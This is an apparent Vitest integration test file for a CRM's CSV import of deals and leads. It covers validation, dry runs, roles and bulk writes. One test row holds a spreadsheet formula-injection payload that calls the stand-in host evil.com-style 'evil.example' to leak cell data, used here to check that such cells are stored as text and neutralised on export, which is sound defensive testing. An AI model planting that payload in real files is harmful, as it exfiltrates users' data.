/**
 * Spreadsheet imports through the real app: deals and leads from text/csv, JSON and multipart
 * bodies; all or nothing (one bad row among good ones writes nothing, and the report lists every
 * bad row); dry runs; positions, history, closed times and webhook outbox rows of a good file;
 * roles and other workspaces.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, asc, count, eq } from 'drizzle-orm';
import { dealStageHistory, deals, leads, webhookDeliveries, webhookEndpoints } from '../../db/schema';
import { createTestApp, errorOf, type TestApp, type TestClient } from '../support/app';
import { createDeal, createPipeline, json, member, stageNamed, type ImportReport, type PipelineBody } from '../support/pipeline';

const PIPELINE = 'Demo B2C e-commerce pipeline - 1';

let t: TestApp;
let owner: TestClient;
let viewer: TestClient;
let workspaceId: string;
let repId: string;
let pipeline: PipelineBody;
let strangerPipeline: PipelineBody;
const dispatched: string[] = [];

/** A CSV upload, as spreadsheet apps send it: the typed client sends JSON only, so these read their report as `json<ImportReport>`. */
function postCsv(client: TestClient, path: string, csv: string, query = '') {
  return client.request(`${path}${query}`, { method: 'POST', body: csv, headers: { 'content-type': 'text/csv; charset=utf-8' } });
}

async function dealCount() {
  const [row] = await t.database.db.select({ n: count() }).from(deals).where(eq(deals.workspaceId, workspaceId));
  return row!.n;
}
async function leadCount() {
  const [row] = await t.database.db.select({ n: count() }).from(leads).where(eq(leads.workspaceId, workspaceId));
  return row!.n;
}
async function deliveryTypes() {
  const rows = await t.database.db
    .select({ type: webhookDeliveries.eventType })
    .from(webhookDeliveries)
    .where(eq(webhookDeliveries.workspaceId, workspaceId));
  return rows.map((r) => r.type);
}

beforeAll(async () => {
  t = await createTestApp({ webhooks: { dispatch: async (ids) => void dispatched.push(...ids) } });
  owner = t.client();
  ({ workspaceId } = await owner.signup('owner@shop.test', 'correct horse battery', 'Olivia', { workspaceName: 'Shop' }));
  ({ userId: repId } = await member(t, owner, 'editor', 'rep@shop.test'));
  ({ client: viewer } = await member(t, owner, 'viewer', 'viewer@shop.test'));
  pipeline = await createPipeline(owner, PIPELINE, 'b2c');
  const stranger = t.client();
  await stranger.signup('stranger@elsewhere.test');
  strangerPipeline = await createPipeline(stranger, 'Their pipeline', 'b2c');
  // A subscriber, so the import's events land in the outbox (written straight in: the API would resolve its host).
  await t.database.db.insert(webhookEndpoints).values({
    id: 'wh-import-test',
    workspaceId,
    url: 'https://hooks.example.com/leadflare',
    secret: 'whsec_test',
    events: ['lead.created', 'deal.created', 'deal.won', 'deal.lost', 'deal.stage_changed'],
    createdAt: t.clock.now(),
    updatedAt: t.clock.now(),
  });
});
afterAll(() => t.close());

describe('importing deals', () => {
  it('refuses a row whose cells shifted (an unquoted "1,250.50"), naming the row', async () => {
    const first = await createDeal(owner, { pipelineId: pipeline.id, name: 'Already here', valueMinor: 100 });
    expect(first.position).toBe(0);
    const csv = 'Deal name,Amount,Stage,Email\r\nFine,$250,Lead generation,\r\n"Serum, large",1,250.50,Lead generation,bo@example.com\r\n';
    const error = await errorOf(await postCsv(owner, '/api/imports/deals', csv));
    expect(error.fields).toEqual([
      expect.objectContaining({ path: 'row 3', message: 'The row has 5 cells but the header has 4.' }),
      expect.objectContaining({ path: 'row 3.email', message: 'Enter a valid email address.' }),
      expect.objectContaining({ path: 'row 3.stage', column: 'Stage' }),
    ]);
    expect(await dealCount()).toBe(1);
  });

  it('refuses a file with any bad row, writes nothing, and lists every bad row with its row number and column', async () => {
    const before = { deals: await dealCount(), leads: await leadCount(), deliveries: (await deliveryTypes()).length };
    const csv = [
      'Deal name,Deal size,Stage,Email,Owner email',
      'Good one,$250,Lead generation,good@example.com,',
      'Bad amount,12;5,Lead generation,,',
      'Good two,$10,Lead qualification,,',
      'Bad stage,$10,Nowhere,,',
      ',$10,,,',
      'Bad owner,$10,,,stranger@elsewhere.test',
      'Lost without reason,$10,Closed lost,,',
    ].join('\n');
    const res = await postCsv(owner, '/api/imports/deals', csv);
    expect(res.status).toBe(400);
    const error = await errorOf(res);
    expect(error.code).toBe('validation_failed');
    expect(error.message).toBe('5 of 7 rows have problems; nothing was imported.');
    expect(error.fields).toEqual([
      expect.objectContaining({ path: 'row 3.amount', row: 3, column: 'Deal size' }),
      expect.objectContaining({ path: 'row 5.stage', row: 5, column: 'Stage' }),
      expect.objectContaining({ path: 'row 6.name', row: 6, column: 'Deal name', message: 'Give the deal a name.' }),
      expect.objectContaining({ path: 'row 7.ownerEmail', message: 'No member of this workspace has the email stranger@elsewhere.test.' }),
      expect.objectContaining({ path: 'row 8.lostReason', message: '"Closed lost" is a lost stage: say why the deal was lost.' }),
    ]);
    expect({ deals: await dealCount(), leads: await leadCount(), deliveries: (await deliveryTypes()).length }).toEqual(before);
  });

  it('writes a good file in one go: bottom of the columns, leads created or linked, owner, history by "import", closed times, outbox', async () => {
    await t.database.db
      .insert(leads)
      .values({ id: 'lead-ava', workspaceId, email: 'ava@example.com', name: 'Ava Smith', createdAt: 1, updatedAt: 1 });
    const dealsBefore = await dealCount();
    const deliveriesBefore = (await deliveryTypes()).length;
    dispatched.length = 0;
    t.clock.advance(60_000);
    const now = t.clock.now();
    const csv = [
      '\uFEFFDeal name,Amount,Stage,Email,Contact name,Owner email,Close date,Lost reason,Currency',
      'Cosmetics set - Ava Smith,$250,Lead generation,Ava@Example.com,,rep@shop.test,2026-12-31,,',
      '"Serum, large","1,250.50",lead generation,bo@example.com,Bo Berg,,,,',
      'Gift box,250.00,Closed won,ava@example.com,,,,,',
      'Lost one,10,Closed lost,,,,,"Unsubscribed from the newsletter without buying",',
      'Tokyo order,3000,Lead qualification,,,,,,JPY',
      '=HYPERLINK("http://evil.example/?x="&A1),0,,,,,,,',
      '',
    ].join('\r\n');
    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/deals', csv), 201);
    expect(report).toMatchObject({ kind: 'deals', dryRun: false, valid: true, rows: 6, badRows: 0, issues: [] });
    expect(report.counts).toEqual({ deals: 6, leadsCreated: 1, leadsLinked: 2 });
    expect(await dealCount()).toBe(dealsBefore + 6);

    const imported = await t.database.db
      .select()
      .from(deals)
      .where(and(eq(deals.pipelineId, pipeline.id), eq(deals.createdAt, now)))
      .orderBy(asc(deals.id));
    const byName = Object.fromEntries(imported.map((d) => [d.name, d]));
    const leadGen = stageNamed(pipeline, 'Lead generation').id;
    expect(byName['Cosmetics set - Ava Smith']).toMatchObject({
      stageId: leadGen,
      position: 1024,
      valueMinor: 25000,
      currency: 'USD',
      leadId: 'lead-ava',
      ownerId: repId,
      expectedCloseAt: Date.UTC(2026, 11, 31),
      closedAt: null,
    });
    expect(byName['Serum, large']).toMatchObject({ stageId: leadGen, position: 2048, valueMinor: 125050 });
    expect(byName['=HYPERLINK("http://evil.example/?x="&A1)']).toMatchObject({ stageId: leadGen, position: 3072, valueMinor: 0 });
    expect(byName['Gift box']).toMatchObject({
      stageId: stageNamed(pipeline, 'Closed won').id,
      position: 0,
      closedAt: now,
      leadId: 'lead-ava',
    });
    expect(byName['Lost one']).toMatchObject({ closedAt: now, lostReason: 'Unsubscribed from the newsletter without buying' });
    expect(byName['Tokyo order']).toMatchObject({ valueMinor: 3000, currency: 'JPY' });
    expect(imported.every((d) => d.origin === 'import')).toBe(true);

    const [bo] = await t.database.db.select().from(leads).where(eq(leads.email, 'bo@example.com'));
    expect(bo).toMatchObject({ name: 'Bo Berg', workspaceId });
    expect(byName['Serum, large']!.leadId).toBe(bo!.id);

    const history = await t.database.db.select().from(dealStageHistory).where(eq(dealStageHistory.dealId, byName['Lost one']!.id));
    expect(history).toEqual([
      expect.objectContaining({ fromStageId: null, toStageId: stageNamed(pipeline, 'Closed lost').id, movedBy: 'import', movedAt: now }),
    ]);

    const types = (await deliveryTypes()).slice(deliveriesBefore).sort();
    expect(types).toEqual([...Array(6).fill('deal.created'), 'deal.lost', 'deal.won', 'lead.created'].sort());
    expect(dispatched).toHaveLength(9);

    // The board (P's API) sees them in the columns the import chose.
    const board = await json(await owner.rpc.api.pipelines[':id'].board.$get({ param: { id: pipeline.id }, query: {} }), 200);
    expect(board.columns.find((c) => c.stage.name === 'Lead generation')!.deals.map((d) => d.name)).toEqual([
      'Already here',
      'Cosmetics set - Ava Smith',
      'Serum, large',
      '=HYPERLINK("http://evil.example/?x="&A1)',
    ]);
  });

  it('keeps one open deal per lead and pipeline: a lead with an open deal is reported', async () => {
    const before = await dealCount();
    const res = await postCsv(
      owner,
      '/api/imports/deals',
      'Deal name,Email,Stage\nAnother for Ava,ava@example.com,\nClosed for Ava,ava@example.com,Closed won\n',
    );
    const error = await errorOf(res);
    expect(error.fields).toEqual([
      expect.objectContaining({
        path: 'row 2.email',
        message: `ava@example.com already has an open deal in "${PIPELINE}"; a lead has one open deal per pipeline.`,
      }),
    ]);
    expect(await dealCount()).toBe(before);
  });

  it('dry run: reports problems and counts with 200, and writes nothing', async () => {
    const before = { deals: await dealCount(), leads: await leadCount() };
    const bad = await json(
      await owner.rpc.api.imports.deals.$post({
        json: { csv: 'Name,Value\nFine,5\nBroken,five\n', dryRun: true, pipelineId: pipeline.id },
      }),
      200,
    );
    expect(bad).toMatchObject({ dryRun: true, valid: false, rows: 2, badRows: 1, counts: { deals: 1 } });
    expect(bad.issues).toEqual([expect.objectContaining({ path: 'row 3.amount', column: 'Value' })]);
    const good = await json<ImportReport>(
      await postCsv(
        owner,
        '/api/imports/deals',
        'Name,Value,Email\nFine,5,new-dry@example.com\n',
        `?dryRun=true&pipelineId=${pipeline.id}`,
      ),
      200,
    );
    expect(good).toMatchObject({ dryRun: true, valid: true, counts: { deals: 1, leadsCreated: 1, leadsLinked: 0 } });
    expect({ deals: await dealCount(), leads: await leadCount() }).toEqual(before);
  });

  it('JSON body with a column mapping, a default currency and a date format', async () => {
    const csv = 'Opportunity,Deal size (¥),Phase,When\nKyoto order,"12,000",Checkout abandonment,03/04/2026\n';
    const report = await json(
      await owner.rpc.api.imports.deals.$post({
        json: {
          csv,
          pipelineId: pipeline.id,
          currency: 'jpy',
          dateFormat: 'DD/MM/YYYY',
          mapping: { Opportunity: 'name', 'Deal size (¥)': 'amount', phase: 'Stage', When: 'expectedClose' },
        },
      }),
      201,
    );
    expect(report.counts.deals).toBe(1);
    const [kyoto] = await t.database.db.select().from(deals).where(eq(deals.name, 'Kyoto order'));
    expect(kyoto).toMatchObject({
      valueMinor: 12000,
      currency: 'JPY',
      stageId: stageNamed(pipeline, 'Checkout abandonment').id,
      expectedCloseAt: Date.UTC(2026, 3, 3),
    });
  });

  it('multipart upload (a file input), with options as form fields', async () => {
    const form = new FormData();
    form.set('file', new File(['Deal name,Value\nUploaded deal,7\n'], 'deals.csv', { type: 'text/csv' }));
    form.set('pipelineId', pipeline.id);
    form.set('dryRun', 'true');
    const report = await json<ImportReport>(await owner.request('/api/imports/deals', { method: 'POST', body: form }), 200);
    expect(report).toMatchObject({ dryRun: true, valid: true, counts: { deals: 1 } });
  });

  it('refuses bad requests with the one error shape', async () => {
    const unsupported = await owner.request('/api/imports/deals', {
      method: 'POST',
      body: '<xml/>',
      headers: { 'content-type': 'application/xml' },
    });
    expect(unsupported.status).toBe(400);
    expect((await errorOf(unsupported)).code).toBe('unsupported_content_type');

    const latin1 = new Uint8Array([0x4e, 0x61, 0x6d, 0x65, 0x0a, 0x43, 0x61, 0x66, 0xe9, 0x0a]); // "Name\nCafé\n" in Windows-1252
    const encoding = await owner.request('/api/imports/deals', { method: 'POST', body: latin1, headers: { 'content-type': 'text/csv' } });
    expect((await errorOf(encoding)).code).toBe('invalid_encoding');

    const noCsv = await owner.post('/api/imports/deals', { pipelineId: pipeline.id });
    expect((await errorOf(noCsv)).fields).toEqual([expect.objectContaining({ path: 'csv' })]);

    const badMapping = await owner.rpc.api.imports.deals.$post({
      json: { csv: 'Name\nX\n', mapping: { Nope: 'name' }, pipelineId: pipeline.id },
    });
    expect((await errorOf(badMapping)).fields).toEqual([
      expect.objectContaining({ path: 'mapping.Nope', message: 'The file has no column named "Nope".' }),
    ]);

    const unclosed = await postCsv(owner, '/api/imports/deals', 'Name\n"Open\n', `?pipelineId=${pipeline.id}`);
    expect((await errorOf(unclosed)).fields).toEqual([expect.objectContaining({ path: 'csv', row: 2 })]);

    const tooMany = await postCsv(owner, '/api/imports/deals', 'Name\n' + 'x\n'.repeat(5001), `?pipelineId=${pipeline.id}`);
    expect((await errorOf(tooMany)).fields?.[0]?.message).toBe('The file has 5,001 rows; import at most 5,000 at a time (split the file).');

    const huge = await postCsv(owner, '/api/imports/deals', 'Name\n' + 'x'.repeat(300 * 1024) + '\n');
    expect(huge.status).toBe(413);
  });

  it('viewers cannot import; other workspaces’ pipelines are not found', async () => {
    const before = await dealCount();
    const denied = await postCsv(viewer, '/api/imports/deals', 'Name\nX\n', `?pipelineId=${pipeline.id}`);
    expect(denied.status).toBe(403);
    expect((await errorOf(denied)).code).toBe('read_only_role');
    expect((await postCsv(viewer, '/api/imports/leads', 'Email\nx@example.com\n')).status).toBe(403);

    const foreign = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name\nX\n', pipelineId: strangerPipeline.id } });
    expect(foreign.status).toBe(404);
    expect(await errorOf(foreign)).toMatchObject({ code: 'not_found', message: 'Pipeline not found.' });
    // By name, the other workspace's pipeline does not exist either.
    const byName = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name,Pipeline\nX,Their pipeline\n' } });
    expect((await errorOf(byName)).fields?.[0]?.message).toMatch(/^No pipeline is named "Their pipeline"/);
    expect(await dealCount()).toBe(before);
  });

  it('needs a pipeline when the workspace has several and the file names none', async () => {
    await createPipeline(owner, 'B2B sales', 'b2b');
    const res = await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name\nX\n' } });
    expect((await errorOf(res)).fields).toEqual([expect.objectContaining({ path: 'pipelineId' })]);
    const named = await json(
      await owner.rpc.api.imports.deals.$post({ json: { csv: 'Name,Pipeline,Stage\nX,b2b SALES,proposal\n', dryRun: true } }),
      200,
    );
    expect(named).toMatchObject({ valid: true, counts: { deals: 1 } });
  });
});

describe('importing leads', () => {
  it('creates new leads, updates existing ones (non-empty cells win), and stores formula-looking cells as text', async () => {
    await t.database.db.insert(leads).values({
      id: 'lead-cy',
      workspaceId,
      email: 'cy@example.com',
      name: 'Cy',
      company: 'Old Co',
      fields: { plan: 'basic', city: 'Oslo' },
      createdAt: 1,
      updatedAt: 1,
    });
    const deliveriesBefore = (await deliveryTypes()).length;
    const csv =
      'E-mail,First name,Last name,Company,Phone,Plan\r\ncy@example.com,,,New Co,,pro\r\nnew1@example.com,Nia,New,=1+2,+1 555 010 0199,\r\nnew2@example.com,,,,,\r\n';
    const report = await json(await owner.rpc.api.imports.leads.$post({ json: { csv, mapping: { Plan: 'fields.plan' } } }), 201);
    expect(report.counts).toEqual({ leadsCreated: 2, leadsUpdated: 1, leadsUnchanged: 0 });
    const [cy] = await t.database.db.select().from(leads).where(eq(leads.id, 'lead-cy'));
    expect(cy).toMatchObject({
      name: 'Cy',
      company: 'New Co',
      fields: { plan: 'pro', city: 'Oslo' },
      createdAt: 1,
      updatedAt: t.clock.now(),
    });
    const [nia] = await t.database.db.select().from(leads).where(eq(leads.email, 'new1@example.com'));
    expect(nia).toMatchObject({ name: 'Nia New', company: '=1+2', phone: '+1 555 010 0199', workspaceId });
    expect((await deliveryTypes()).slice(deliveriesBefore)).toEqual(['lead.created', 'lead.created']);

    // The export neutralises the formula again.
    const exported = await (await owner.rpc.api.exports.leads.$get({ query: { q: 'new1' } })).text();
    expect(exported).toContain(",'=1+2,");

    // The same file again changes nothing.
    const again = await json(await owner.rpc.api.imports.leads.$post({ json: { csv, mapping: { Plan: 'fields.plan' } } }), 201);
    expect(again.counts).toEqual({ leadsCreated: 0, leadsUpdated: 0, leadsUnchanged: 3 });
  });

  it('refuses duplicate emails within a file and writes none of it', async () => {
    const before = await leadCount();
    const res = await postCsv(
      owner,
      '/api/imports/leads',
      'Email,Name\nfresh@example.com,Fresh\nFRESH@example.com,Again\nnot-an-email,X\n',
    );
    const error = await errorOf(res);
    expect(error.message).toBe('2 of 3 rows have problems; nothing was imported.');
    expect(error.fields?.map((f) => f.path)).toEqual(['row 3.email', 'row 4.email']);
    expect(error.fields?.[0]?.message).toBe('fresh@example.com is already on row 2; list each lead once.');
    expect(await leadCount()).toBe(before);
  });

  it('reads its own export back', async () => {
    const exported = await (await owner.rpc.api.exports.leads.$get({ query: {} })).text();
    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/leads', exported, '?dryRun=1'), 200);
    expect(report).toMatchObject({ valid: true, counts: { leadsCreated: 0, leadsUpdated: 0 } });
    expect(report.counts.leadsUnchanged).toBe(await leadCount());
    expect(report.warnings.map((w) => w.path)).toEqual([
      'header.id',
      'header.quiz_outcome',
      'header.score',
      'header.created_at',
      'header.updated_at',
    ]);
  });
});

describe('a full file', () => {
  it('writes a full 5,000-row file atomically (inserts split under SQLite’s bound-value limit, outbox included)', async () => {
    const bulk = await createPipeline(owner, 'Bulk', 'b2b');
    const csv = 'Deal name,Value,Email\n' + Array.from({ length: 5000 }, (_, i) => `Deal ${i},${i}.50,bulk${i}@example.com`).join('\n');
    expect(csv.length).toBeLessThan(256 * 1024);
    const dealsBefore = await dealCount();
    const deliveriesBefore = (await deliveryTypes()).length;
    const report = await json<ImportReport>(await postCsv(owner, '/api/imports/deals', csv, `?pipelineId=${bulk.id}`), 201);
    expect(report.counts).toEqual({ deals: 5000, leadsCreated: 5000, leadsLinked: 0 });
    expect(await dealCount()).toBe(dealsBefore + 5000);
    expect((await deliveryTypes()).length).toBe(deliveriesBefore + 10_000);
    const last = await t.database.db.select().from(deals).where(eq(deals.name, 'Deal 4999'));
    expect(last[0]).toMatchObject({ position: 4999 * 1024, valueMinor: 499950 });
  });
});
